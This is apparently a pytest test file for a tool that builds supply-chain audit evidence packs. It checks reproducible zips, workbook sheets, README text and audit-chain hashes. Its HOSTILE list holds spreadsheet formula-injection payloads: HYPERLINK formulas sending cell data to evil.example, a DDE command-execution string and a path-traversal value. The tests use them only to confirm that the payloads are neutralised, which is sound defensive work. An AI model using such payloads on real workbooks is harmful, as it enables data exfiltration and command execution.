"""What a pack holds: byte-identical rebuilds, no live formulas, generated names, the workbook."""

from __future__ import annotations

import hashlib
import io
import json
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest

from supplychain.evidence import pack as pack_module
from supplychain.evidence.pack import PackData, build_pack
from supplychain.evidence.readme import WORKBOOK_NAME
from supplychain.evidence.verify import INTACT, verify_pack
from supplychain.evidence.workbook import Column, PackWorkbook, Sheet
from tests.unit.evidence.packs import KEY, WHEN, build, make_data, members

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%"]
HOSTILE = [
    *(f'{t}HYPERLINK("http://evil.example/?"&A1,"click")' for t in TRIGGERS),
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\r\n=2*3",
    "Bell\x07and\x00nul",
    "'quoted",
    "../../etc/passwd",
    "CON",
]


def sheet_xml(pack: Path) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(members(pack)[WORKBOOK_NAME])) as book:
        return {
            n: book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")
        }


def test_same_data_and_time_give_a_byte_identical_zip(tmp_path: Path) -> None:
    first, result = build(tmp_path, "first.zip")
    second, again = build(tmp_path, "second.zip")
    assert first.read_bytes() == second.read_bytes()
    assert result.sha256 == again.sha256
    later = make_data(tmp_path / "later")
    later.info = type(later.info)(**{**later.info.__dict__, "generated_at": WHEN + timedelta(1)})
    third = tmp_path / "third.zip"
    build_pack(later, third, key=KEY)
    assert third.read_bytes() != first.read_bytes()


def test_entries_are_sorted_with_fixed_timestamps(tmp_path: Path) -> None:
    pack, _ = build(tmp_path)
    with zipfile.ZipFile(pack) as zf:
        infos = zf.infolist()
    names = [i.filename for i in infos]
    assert names == sorted(names)
    assert {i.date_time for i in infos} == {(2026, 3, 31, 12, 0, 0)}
    assert {i.external_attr >> 16 for i in infos} == {0o100644}


def test_hostile_names_never_become_formulas_or_names(tmp_path: Path) -> None:
    pack, _ = build(tmp_path, names=HOSTILE)
    assert verify_pack(pack, KEY).status == INTACT
    xml = sheet_xml(pack)
    assert xml, "the workbook has sheets"
    for name, body in xml.items():
        assert "<f>" not in body and "<f " not in body, f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(members(pack)[WORKBOOK_NAME]), read_only=True)
    suppliers = list(book["Suppliers"].iter_rows(min_row=2, values_only=True))
    written = [row[2].replace("_x000D_", "\r") for row in suppliers]  # openpyxl leaves CR escaped
    for original, cell in zip(HOSTILE, written, strict=True):
        text = original.replace("\x07", "").replace("\x00", "")
        if text.lstrip(" ")[:1] in set("=+-@\t\r\n|%"):
            assert cell == "'" + text
        else:
            assert cell == text
    assert suppliers[0][11] == -1.5, "a negative number stays a number"
    sheet_names = book.sheetnames
    assert sheet_names[:3] == ["Summary", "Crosswalk", "Rule sets"]
    names = list(members(pack))
    assert all(re.fullmatch(r"[A-Za-z0-9_./-]+", n) for n in names), names
    assert not any(".." in n or n.startswith("/") for n in names)


def test_workbook_sheets_hold_the_rows_and_the_summary_counts_them(tmp_path: Path) -> None:
    pack, result = build(tmp_path)
    book = openpyxl.load_workbook(io.BytesIO(members(pack)[WORKBOOK_NAME]), read_only=True)
    assert book.sheetnames == [
        "Summary",
        "Crosswalk",
        "Rule sets",
        "Suppliers",
        "Rule hits",
        "Findings",
        "Actions",
        "Action history",
        "Worker remedy",
        "Uploads",
        "Audit trail",
    ]
    summary = dict(book["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary["Suppliers in the pack"] == 30 == result.counts["suppliers"]
    assert summary["Suppliers rated critical"] == 6
    assert summary["Rule hits linking to Xinjiang or the UFLPA Entity List"] == 15
    assert summary["Audit-trail entries (whole chain)"] == 22
    uploads = list(book["Uploads"].iter_rows(min_row=2, values_only=True))
    assert [(u[0], u[2]) for u in uploads] == [(1, "uploads/1.csv"), (2, "uploads/2.csv")]
    rules = list(book["Rule sets"].iter_rows(min_row=2, values_only=True))
    assert rules[0][1] == "rules/rulesets/default.yaml" and rules[0][4] == "matches"


def test_a_long_table_continues_on_numbered_sheets(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    book = PackWorkbook(path, WHEN, "t", max_rows=4)
    table = book.add(Sheet("Rows", (Column("n", "N"),)))
    table.extend({"n": i} for i in range(7))
    table.close()
    book.close()
    loaded = openpyxl.load_workbook(path, read_only=True)
    assert loaded.sheetnames == ["Rows", "Rows (2)", "Rows (3)"]
    values = [r[0] for ws in loaded.worksheets for r in ws.iter_rows(min_row=2, values_only=True)]
    assert values == list(range(7))


def test_reference_files_that_changed_since_scoring_are_flagged(tmp_path: Path) -> None:
    data: PackData = make_data(tmp_path)
    stale = data.rule_files[0]
    data.rule_files = [type(stale)(stale.relpath, "0" * 64, stale.source, stale.rulesets)]
    out = tmp_path / "stale.zip"
    result = build_pack(data, out)
    assert any("CHANGED since scoring" in n for n in result.notes)
    files = members(out)
    assert b"CHANGED since scoring" in files["README.txt"]
    assert verify_pack(out).status == INTACT


@pytest.mark.parametrize("missing", ["gone", "edited"])
def test_an_upload_no_longer_on_the_server_or_changed_is_left_out_and_said(
    tmp_path: Path, missing: str
) -> None:
    data = make_data(tmp_path)
    source = data.uploads[1]
    if missing == "gone":
        source.path.unlink()
    else:
        source.path.write_bytes(b"edited later")
    out = tmp_path / "p.zip"
    result = build_pack(data, out)
    assert "uploads/2.csv" not in members(out)
    assert any(n.startswith("Upload 2: the stored file") for n in result.notes)
    assert verify_pack(out).status == INTACT


def test_the_readme_guides_an_auditor_through_what_is_in_the_pack(tmp_path: Path) -> None:
    pack, result = build(tmp_path)
    files = members(pack)
    readme = files["README.txt"].decode()
    assert "EVIDENCE PACK - Acme Apparel" in readme and result.head_hash in readme
    assert "python3 verify_pack.py THIS_PACK.zip" in readme and "--key KEY_FILE" in readme
    tops = {name.split("/")[0] + ("/" if "/" in name else "") for name in files}
    tops.discard("README.txt")
    assert tops == {"audit/", "evidence-workbook.xlsx", "manifest.json", "rules/", "uploads/"} | {
        "verify_pack.py"
    }
    listed = [line for line in readme.splitlines() if line[:2] == "  " and line[2:3].isalnum()]
    described = {line.split()[0].split("/")[0] for line in listed}
    assert {t.rstrip("/") for t in tops} <= described, described
    assert max(len(line) for line in readme.splitlines()) <= 100


def test_the_readme_recipe_for_the_audit_chain_gives_the_recorded_hashes(tmp_path: Path) -> None:
    """Step 3 of the README done by hand, with hashlib and json only."""
    pack, _ = build(tmp_path)
    fields = "company_id, seq, actor, action, object_type, object_id, occurred_at, details"
    assert fields in " ".join(members(pack)["README.txt"].decode().split())
    prev = "0" * 64
    for line in members(pack)["audit/audit_trail.jsonl"].decode().splitlines():
        entry = json.loads(line)
        body = {name: entry[name] for name in fields.split(", ")}
        text = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        prev = hashlib.sha256((prev + text).encode()).hexdigest()
        assert entry["hash"] == prev


def test_the_summary_counts_suppliers_by_risk_tier(tmp_path: Path) -> None:
    pack, _ = build(tmp_path)
    book = openpyxl.load_workbook(io.BytesIO(members(pack)[WORKBOOK_NAME]), read_only=True)
    summary = dict(book["Summary"].iter_rows(min_row=2, values_only=True))
    tiers = {k: v for k, v in summary.items() if k.startswith("Suppliers rated")}
    assert tiers == {f"Suppliers rated {t}": 6 for t in ("low", "medium", "high", "critical")}
    assert summary["Suppliers not scored"] == 6


def test_long_tables_report_progress_within_their_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pack_module, "PROGRESS_ROWS", 2)  # a report every 2 rows, not 20,000
    data = make_data(tmp_path)
    seen: list[tuple[int, int, str]] = []
    build_pack(data, tmp_path / "p.zip", progress=lambda *report: seen.append(report))
    stages = [stage for _done, _total, stage in seen]
    assert stages[:2] == ["reference data", "suppliers"]
    assert "suppliers: 2 rows written" in stages
    done = [d for d, _total, _stage in seen]
    assert done == sorted(done) and all(total == pack_module.STAGES for _d, total, _s in seen)
    assert seen[stages.index("suppliers: 2 rows written")][0] == seen[1][0]  # same stage
